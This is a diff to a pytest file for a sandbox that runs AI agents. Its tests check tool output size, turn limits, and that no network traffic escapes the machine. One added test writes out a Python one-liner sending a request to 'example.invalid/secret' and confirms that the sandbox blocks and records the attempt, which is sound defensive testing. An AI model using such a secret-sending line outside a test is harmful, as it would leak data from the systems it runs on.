@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import subprocess
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -29,6 +31,8 @@ def fleet(tmp_path: Path, network: ModelNetwork) -> Iterator[RealFleet]:
     made = RealFleet(tmp_path, network, CLAUDE)
     yield made
     made.close()
+    assert network.requests()
+    assert network.strays() == [], "something tried to leave this machine"
 
 
 def failures(events: list[dict[str, Any]]) -> list[str]:
@@ -67,6 +71,22 @@ def test_nothing_that_the_repository_planted_is_run_and_no_secret_is_left(fleet:
     assert not fleet.planted.exists()
     assert fleet.holding(KEY) == []
     assert [path.name for path in fleet.home.iterdir()] == []
+
+
+def test_three_megabytes_from_a_tool_disturb_nobody(fleet: RealFleet) -> None:
+    fleet.agent("big-output")
+    fleet.answer("add", "app", "--title", "Greet the user")
+    assert failures(fleet.night()) == []
+    assert fleet.released() == ["Greet the user"]
+
+
+def test_a_limit_of_turns_ends_an_agent_that_does_not(fleet: RealFleet) -> None:
+    fleet.configure(attempts=1)
+    fleet.agent("endless", mode="print", max_turns=3)
+    fleet.answer("add", "app", "--title", "Greet the user")
+    events = fleet.night()
+    assert "error max turns" in {event.get("detail") for event in events}
+    assert fleet.released() == []
 
 
 def test_a_stall_in_mid_stream_is_ended_and_tried_again(fleet: RealFleet) -> None:
@@ -127,7 +147,16 @@ def test_a_question_that_nobody_answers_ends_the_attempt_and_says_so(fleet: Real
     assert fleet.released() == []
 
 
-def test_nothing_went_beyond_this_machine(network: ModelNetwork) -> None:
-    """Runs last: of all the tests above, what reached the model API, and what tried to go elsewhere."""
-    assert network.turns()
-    assert network.strays() == []
+def test_whoever_tried_to_leave_would_be_on_record(tmp_path: Path) -> None:
+    """What the end of every test above relies on."""
+    leave = "import urllib.request as r; r.urlopen('http://example.invalid/secret', timeout=5)"
+    with ModelNetwork(tmp_path / "records") as network:
+        argv = [*network.enter(), sys.executable, "-c", leave]
+        assert subprocess.run(argv, env=network.proxies(), capture_output=True).returncode != 0
+        assert [stray["first"] for stray in network.strays()] == ["GET http://example.invalid/secret HTTP/1.1"]
+
+
+def test_inside_the_wall_there_is_nothing_but_loopback(network: ModelNetwork) -> None:
+    names = "import socket; print(*(name for _, name in socket.if_nameindex()))"
+    seen = subprocess.run([*network.enter(), sys.executable, "-c", names], capture_output=True, text=True)
+    assert not network.isolated or seen.stdout.split() == ["lo"]
